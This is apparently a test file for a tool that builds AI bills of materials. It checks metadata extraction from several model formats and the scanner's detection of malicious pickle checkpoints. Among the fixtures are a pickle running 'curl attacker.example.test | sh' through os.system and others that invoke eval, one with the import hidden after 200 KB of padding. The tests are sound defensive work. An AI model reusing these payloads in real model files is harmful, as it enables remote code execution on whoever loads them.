import { createHash, randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type BomDoc, dependsOn, tempDir } from './helpers/cli.js';
import {
  ggufBytes,
  memoEvalPickle,
  onnxBytes,
  osSystemPickle,
  PickleWriter,
  safetensorsBytes,
  torchZipCheckpoint,
} from './helpers/model-files.js';
import { type Built, buildBoth, cardProp, component, findingsOf, props, writeTree } from './helpers/models.js';

const CARD = `---
license: apache-2.0
base_model:
  - acme-labs/base-7b
  - bare-model
base_model_relation: finetune
datasets:
  - acme-labs/support-chats
  - squad
pipeline_tag: text-generation
library_name: transformers
language: [en, fr]
tags: [chat, tiny]
model-index:
  - name: tiny-chat
    results:
      - task: {type: text-generation, name: Text Generation}
        dataset: {name: Support Chats, type: acme-labs/support-chats, split: test}
        metrics:
          - {type: accuracy, value: 0.875, name: Accuracy}
          - {type: f1, value: 0.5}
---
# tiny chat
`;

const TEMPLATE = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}";

function sha256(b: Buffer): string {
  return createHash('sha256').update(b).digest('hex');
}

/** The model_signing "files" digest, written out independently: sorted names, raw digests concatenated. */
function manifestDigest(files: Record<string, Buffer>): string {
  const names = Object.keys(files).sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
  const h = createHash('sha256');
  for (const n of names) h.update(createHash('sha256').update(files[n]!).digest());
  return h.digest('hex');
}

describe('aibom build: models in every supported format', () => {
  let dir: string;
  let cleanup: () => Promise<void>;
  let built: Built;
  let bom: BomDoc;
  const shard1 = safetensorsBytes({ 'a.weight': { dtype: 'BF16', shape: [64, 32] } }, { format: 'pt' });
  const shard2 = safetensorsBytes({ 'b.weight': { dtype: 'F32', shape: [32] }, 'c.weight': { dtype: 'BF16', shape: [8, 4] } });
  const chatFolder: Record<string, Buffer> = {
    'model-00001-of-00002.safetensors': shard1,
    'model-00002-of-00002.safetensors': shard2,
    'model.safetensors.index.json': Buffer.from(
      JSON.stringify({
        metadata: { total_size: 4000 },
        weight_map: { 'a.weight': 'model-00001-of-00002.safetensors', 'b.weight': 'model-00002-of-00002.safetensors', 'c.weight': 'model-00002-of-00002.safetensors' },
      }),
    ),
    'config.json': Buffer.from(
      JSON.stringify({
        architectures: ['TinyForCausalLM'],
        model_type: 'tiny',
        hidden_size: 32,
        num_hidden_layers: 2,
        num_attention_heads: 4,
        vocab_size: 64,
        max_position_embeddings: 4096,
        torch_dtype: 'bfloat16',
        quantization_config: { quant_method: 'gptq', bits: 4 },
      }),
    ),
    'generation_config.json': Buffer.from(JSON.stringify({ temperature: 0.7, top_p: 0.95 })),
    'tokenizer_config.json': Buffer.from(
      JSON.stringify({
        tokenizer_class: 'LlamaTokenizer',
        eos_token: { content: '</s>', lstrip: false },
        model_max_length: 1e30,
        chat_template: [
          { name: 'default', template: TEMPLATE },
          { name: 'tool_use', template: '{{ tools }}' },
        ],
      }),
    ),
    'README.md': Buffer.from(CARD),
  };
  const sig = Buffer.from('{"mediaType":"application/vnd.dev.sigstore.bundle.v0.3+json"}');
  const gguf = ggufBytes({
    metadata: [
      ['general.architecture', { type: 'string', value: 'llama' }],
      ['general.name', { type: 'string', value: 'Tiny Llama Q4' }],
      ['general.license', { type: 'string', value: 'mit' }],
      ['general.file_type', { type: 'u32', value: 15 }],
      ['llama.context_length', { type: 'u32', value: 8192 }],
      ['llama.embedding_length', { type: 'u32', value: 32 }],
      ['llama.block_count', { type: 'u32', value: 2 }],
      ['tokenizer.ggml.model', { type: 'string', value: 'gpt2' }],
      ['tokenizer.ggml.tokens', { type: 'string[]', value: ['<s>', '</s>', 'a', 'b'] }],
      ['tokenizer.chat_template', { type: 'string', value: TEMPLATE }],
      ['general.base_model.count', { type: 'u32', value: 1 }],
      ['general.base_model.0.name', { type: 'string', value: 'Base 7B' }],
      ['general.base_model.0.organization', { type: 'string', value: 'Acme Labs' }],
    ],
    tensors: [
      { name: 'tok_embd.weight', shape: [32, 4], type: 0 },
      { name: 'blk.0.attn_q.weight', shape: [32, 32], type: 12 },
    ],
  });
  const onnx = onnxBytes({
    irVersion: 9,
    opsets: [{ version: 17 }, { domain: 'com.microsoft', version: 1 }],
    producerName: 'pytorch',
    producerVersion: '2.3.0',
    graphName: 'main_graph',
    metadata: { author: 'acme' },
    inputs: [{ name: 'input_ids', elemType: 7, dims: ['batch', 'sequence'] }],
    outputs: [{ name: 'last_hidden_state', elemType: 1, dims: ['batch', 'sequence', 32] }],
    nodes: [{ opType: 'Gather' }, { opType: 'MatMul' }, { opType: 'Attention', domain: 'com.microsoft' }],
    initializers: [
      { name: 'embeddings', dims: [64, 32] },
      { name: 'proj', dims: [32, 32], raw: randomBytes(32 * 32 * 4) },
    ],
  });
  const cleanPt = torchZipCheckpoint();
  const evilBin = osSystemPickle('curl attacker.example.test | sh');
  const evalPkl = memoEvalPickle();
  // Protocol 0 carries data as text lines, here 200 KB long, before the import.
  const proto0 = new PickleWriter()
    .raw(`V${'x'.repeat(200_000)}\n`)
    .raw('0')
    .global('__builtin__', 'eval')
    .mark()
    .raw("S'1+1'\n")
    .tuple()
    .reduce()
    .stop()
    .bytes();
  const numpyPkl = new PickleWriter()
    .proto(2)
    .global('numpy.core.multiarray', '_reconstruct')
    .global('numpy', 'ndarray')
    .int(0)
    .tuple1()
    .unicode('b')
    .tuple2()
    .reduce()
    .stop()
    .bytes();

  beforeAll(async () => {
    ({ dir, cleanup } = await tempDir('aibom-models-'));
    const files: Record<string, string | Buffer> = {
      'package.json': JSON.stringify({ name: 'agent', version: '1.0.0' }),
      'models/q4.gguf': gguf,
      'encoder/encoder.onnx': onnx,
      'ckpt/clean.pt': cleanPt,
      'ckpt/evil.bin': evilBin,
      'ckpt/eval.pkl': evalPkl,
      'ckpt/arrays.pkl': numpyPkl,
      'ckpt/proto0.pkl': proto0,
      // Random bytes no pickle reader accepts: the first byte is no opcode (a .bin whose first
      // byte opens a pickle is scanned as one, and a damaged one that imports is a finding).
      'ckpt/random.bin': Buffer.concat([Buffer.from([0x00]), randomBytes(4095)]),
      'src/models/user.py': 'class User: pass\n',
      'models/tiny-chat/model.sig': sig,
    };
    for (const [k, v] of Object.entries(chatFolder)) files[`models/tiny-chat/${k}`] = v;
    await writeTree(dir, files);
    built = await buildBoth(dir, dir);
    bom = built.bom;
  }, 120_000);
  afterAll(async () => cleanup?.());

  it('finds each model and nothing that is not one', () => {
    const models = (bom.components ?? []).filter((c) => c.type === 'machine-learning-model').map((c) => c['bom-ref']).sort();
    expect(models).toEqual([
      'model:ckpt/arrays.pkl',
      'model:ckpt/clean.pt',
      'model:ckpt/eval.pkl',
      'model:ckpt/evil.bin',
      'model:ckpt/proto0.pkl',
      'model:encoder/encoder.onnx',
      'model:models/q4.gguf',
      'model:models/tiny-chat',
    ]);
    const rootRef = bom.metadata.component?.['bom-ref'] as string;
    for (const m of models) expect(dependsOn(bom, rootRef)).toContain(m);
  });

  it('sharded safetensors folder: parameters, dtypes, shards, folder digest without the signature, per-file hashes', () => {
    const c = component(bom, 'model:models/tiny-chat');
    expect(props(c, 'aibom:serialization')).toEqual(['safetensors']);
    expect(props(c, 'aibom:model:parameter-count')).toEqual([String(64 * 32 + 32 + 32)]);
    expect(props(c, 'aibom:model:tensor-count')).toEqual(['3']);
    expect(props(c, 'aibom:model:dtypes')).toEqual(['BF16,F32']);
    expect(props(c, 'aibom:safetensors:metadata:format')).toEqual(['pt']);
    expect(props(c, 'aibom:model:shards')).toEqual(['model.safetensors.index.json: 2']);
    expect(cardProp(c, 'cdx:ai-ml:model:parameter:count')).toBe('2.1K');
    const digest = manifestDigest(chatFolder);
    expect(props(c, 'aibom:folder-digest')).toEqual([`sha256:${digest}`]);
    expect(c.hashes).toEqual([{ alg: 'SHA-256', content: digest }]);
    expect(props(c, 'aibom:signature-bundle')).toEqual(['models/tiny-chat/model.sig']);
    expect(props(c, 'aibom:file-count')).toEqual([String(Object.keys(chatFolder).length)]);
    const nested = c.components as Array<{ type: string; name: string; hashes: Array<{ content: string }> }>;
    expect(nested.map((n) => n.name)).toEqual(Object.keys(chatFolder).sort());
    for (const n of nested) {
      expect(n.type).toBe('file');
      expect(n.hashes[0]!.content).toBe(sha256(chatFolder[n.name]!));
    }
  });

  it('Hugging Face files and model card map to the CycloneDX model card, pedigree and datasets', () => {
    const c = component(bom, 'model:models/tiny-chat');
    expect(c.licenses).toEqual([{ license: { id: 'Apache-2.0' } }]);
    const mp = c.modelCard.modelParameters;
    expect(mp.task).toBe('text-generation');
    expect(mp.architectureFamily).toBe('tiny');
    expect(mp.modelArchitecture).toBe('TinyForCausalLM');
    expect(mp.datasets).toEqual([{ ref: 'dataset:huggingface/acme-labs/support-chats' }, { ref: 'dataset:huggingface/squad' }]);
    expect(mp).not.toHaveProperty('properties');
    expect(c.modelCard.quantitativeAnalysis.performanceMetrics).toEqual([
      { type: 'accuracy', value: '0.875', slice: 'Support Chats (test) — Text Generation' },
      { type: 'f1', value: '0.5', slice: 'Support Chats (test) — Text Generation' },
    ]);
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:hidden_size')).toBe('32');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:num_hidden_layers')).toBe('2');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:vocab_size')).toBe('64');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:context_length')).toBe('4096');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:quantization')).toBe('gptq 4-bit');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:temperature')).toBe('0.7');
    expect(cardProp(c, 'cdx:ai-ml:tokenizer:hyperparameter:eos_token')).toBe('</s>');
    expect(cardProp(c, 'cdx:ai-ml:tokenizer:hyperparameter:model_max_length')).toBeUndefined();
    expect(cardProp(c, 'cdx:ai-ml:model:template:chat')).toBe(TEMPLATE);
    expect(cardProp(c, 'aibom:model:chat-template:tool_use')).toBe('{{ tools }}');
    expect(cardProp(c, 'cdx:ai-ml:model:languages')).toBe('en,fr');
    expect(c.tags).toEqual(['chat', 'tiny']);
    expect(props(c, 'aibom:model:library')).toEqual(['transformers']);
    expect(props(c, 'aibom:model:base-model-relation')).toEqual(['finetune']);
    expect(c.pedigree.ancestors).toEqual([
      { type: 'machine-learning-model', name: 'base-7b', group: 'acme-labs', purl: 'pkg:huggingface/acme-labs/base-7b' },
      { type: 'machine-learning-model', name: 'bare-model', purl: 'pkg:huggingface/bare-model' },
    ]);
    const ds = component(bom, 'dataset:huggingface/acme-labs/support-chats');
    expect(ds.type).toBe('data');
    expect(ds.group).toBe('acme-labs');
    expect(ds.name).toBe('support-chats');
    expect(ds.data[0]).toMatchObject({ type: 'dataset', name: 'acme-labs/support-chats' });
    expect(component(bom, 'dataset:huggingface/squad').name).toBe('squad');
  });

  it('GGUF: architecture, quantization, context length, chat template, base model, parameters', () => {
    const c = component(bom, 'model:models/q4.gguf');
    expect(props(c, 'aibom:serialization')).toEqual(['gguf']);
    expect(c.description).toBe('Tiny Llama Q4');
    expect(c.licenses).toEqual([{ license: { id: 'MIT' } }]);
    expect(props(c, 'aibom:gguf:version')).toEqual(['3']);
    expect(props(c, 'aibom:gguf:file-type')).toEqual(['Q4_K_M']);
    expect(props(c, 'aibom:gguf:tensor-types')).toEqual(['F32:1,Q4_K:1']);
    expect(props(c, 'aibom:model:parameter-count')).toEqual([String(32 * 4 + 32 * 32)]);
    expect(c.modelCard.modelParameters.architectureFamily).toBe('llama');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:quantization')).toBe('Q4_K_M');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:context_length')).toBe('8192');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:hidden_size')).toBe('32');
    expect(cardProp(c, 'cdx:ai-ml:model:hyperparameter:vocab_size')).toBe('4');
    expect(cardProp(c, 'cdx:ai-ml:model:template:chat')).toBe(TEMPLATE);
    expect(c.pedigree.ancestors).toEqual([{ type: 'machine-learning-model', name: 'Base 7B', group: 'Acme Labs' }]);
    expect(c.hashes).toEqual([{ alg: 'SHA-256', content: sha256(gguf) }]);
    // A single file's model_signing digest is the SHA-256 of its one raw resource digest.
    const single = createHash('sha256').update(createHash('sha256').update(gguf).digest()).digest('hex');
    expect(props(c, 'aibom:folder-digest')).toEqual([`sha256:${single}`]);
  });

  it('ONNX: IR version, opsets, producer, inputs and outputs, parameters, custom operators', () => {
    const c = component(bom, 'model:encoder/encoder.onnx');
    expect(props(c, 'aibom:serialization')).toEqual(['onnx']);
    expect(props(c, 'aibom:onnx:ir-version')).toEqual(['9']);
    expect(props(c, 'aibom:onnx:opsets')).toEqual(['ai.onnx:17,com.microsoft:1']);
    expect(props(c, 'aibom:onnx:producer')).toEqual(['pytorch 2.3.0']);
    expect(props(c, 'aibom:onnx:metadata:author')).toEqual(['acme']);
    expect(props(c, 'aibom:model:parameter-count')).toEqual([String(64 * 32 + 32 * 32)]);
    expect(c.modelCard.modelParameters.inputs).toEqual([{ format: 'input_ids: int64[batch,sequence]' }]);
    expect(c.modelCard.modelParameters.outputs).toEqual([{ format: 'last_hidden_state: float32[batch,sequence,32]' }]);
    expect(findingsOf(built, 'onnx-custom-operators').map((f) => f.component)).toEqual(['model:encoder/encoder.onnx']);
  });

  it('pickle checkpoints: clean torch zip and numpy arrays list allowed imports; every pickle is a medium finding', () => {
    const clean = component(bom, 'model:ckpt/clean.pt');
    expect(props(clean, 'aibom:serialization')).toEqual(['pickle']);
    expect(props(clean, 'aibom:pickle:imports')).toEqual(['collections.OrderedDict, torch.FloatStorage, torch._utils._rebuild_tensor_v2']);
    expect(props(clean, 'aibom:pickle:container')).toEqual(['ckpt/clean.pt: zip']);
    const arrays = component(bom, 'model:ckpt/arrays.pkl');
    expect(props(arrays, 'aibom:pickle:imports')).toEqual(['numpy.core.multiarray._reconstruct, numpy.ndarray']);
    const pickleModel = findingsOf(built, 'pickle-model').map((f) => f.component).sort();
    expect(pickleModel).toEqual(['model:ckpt/arrays.pkl', 'model:ckpt/clean.pt', 'model:ckpt/eval.pkl', 'model:ckpt/evil.bin', 'model:ckpt/proto0.pkl']);
    expect(findingsOf(built, 'pickle-model').every((f) => f.severity === 'medium')).toBe(true);
    const unsafe = findingsOf(built, 'pickle-unsafe-import');
    expect(unsafe.filter((f) => f.component === 'model:ckpt/clean.pt' || f.component === 'model:ckpt/arrays.pkl')).toEqual([]);
  });

  it('malicious pickles: os.system through GLOBAL and builtins.eval through memoized STACK_GLOBAL strings are critical', () => {
    const unsafe = findingsOf(built, 'pickle-unsafe-import');
    const evil = unsafe.find((f) => f.component === 'model:ckpt/evil.bin');
    expect(evil?.severity).toBe('critical');
    expect(evil?.message).toContain('posix.system');
    expect(evil?.message).toContain('calls it');
    const ev = unsafe.find((f) => f.component === 'model:ckpt/eval.pkl');
    expect(ev?.severity).toBe('critical');
    expect(ev?.message).toContain('builtins.eval');
    expect(props(component(bom, 'model:ckpt/evil.bin'), 'aibom:pickle:imports')).toEqual(['posix.system']);
    // Protocol 0: long text lines are skipped, the import after them is still found (Python 2 names mapped).
    const p0 = unsafe.find((f) => f.component === 'model:ckpt/proto0.pkl');
    expect(p0?.severity).toBe('critical');
    expect(p0?.message).toContain('builtins.eval and calls it');
    expect(findingsOf(built, 'pickle-unscanned').filter((f) => f.component === 'model:ckpt/proto0.pkl')).toEqual([]);
    // The finding travels in the BOM, on the component.
    expect(props(component(bom, 'model:ckpt/evil.bin'), 'aibom:finding').some((v) => v.startsWith('critical pickle-unsafe-import'))).toBe(true);
  });

  it('bytes no pickle reader accepts, named .bin, and code under src/models are not models', () => {
    expect(bom.components?.some((c) => c['bom-ref'] === 'model:ckpt/random.bin')).toBe(false);
    expect(bom.components?.some((c) => String(c['bom-ref']).includes('src/models'))).toBe(false);
  });
});

describe('aibom build examples/agent: the bundled models', () => {
  it('describes the tiny chat model folder and the pickle checkpoint, schema-valid for 1.6 and 1.7', async () => {
    const { dir, cleanup } = await tempDir();
    try {
      const built = await buildBoth('examples/agent', dir);
      const chat = component(built.bom, 'model:models/tiny-support-chat');
      expect(chat.type).toBe('machine-learning-model');
      expect(chat.licenses).toEqual([{ license: { id: 'Apache-2.0' } }]);
      expect(chat.modelCard.modelParameters.task).toBe('text-generation');
      expect(chat.modelCard.modelParameters.datasets).toEqual([{ ref: 'dataset:huggingface/HuggingFaceH4/ultrachat_200k' }]);
      expect(chat.pedigree.ancestors[0].purl).toBe('pkg:huggingface/HuggingFaceTB/SmolLM2-135M-Instruct');
      expect(cardProp(chat, 'cdx:ai-ml:model:template:chat')).toContain('<|im_start|>');
      expect(props(chat, 'aibom:folder-digest')[0]).toMatch(/^sha256:[0-9a-f]{64}$/);
      component(built.bom, 'dataset:huggingface/HuggingFaceH4/ultrachat_200k');
      const head = component(built.bom, 'model:models/intent-head.pt');
      expect(props(head, 'aibom:serialization')).toEqual(['pickle']);
      expect(findingsOf(built, 'pickle-unsafe-import')).toEqual([]);
    } finally {
      await cleanup();
    }
  }, 120_000);
});
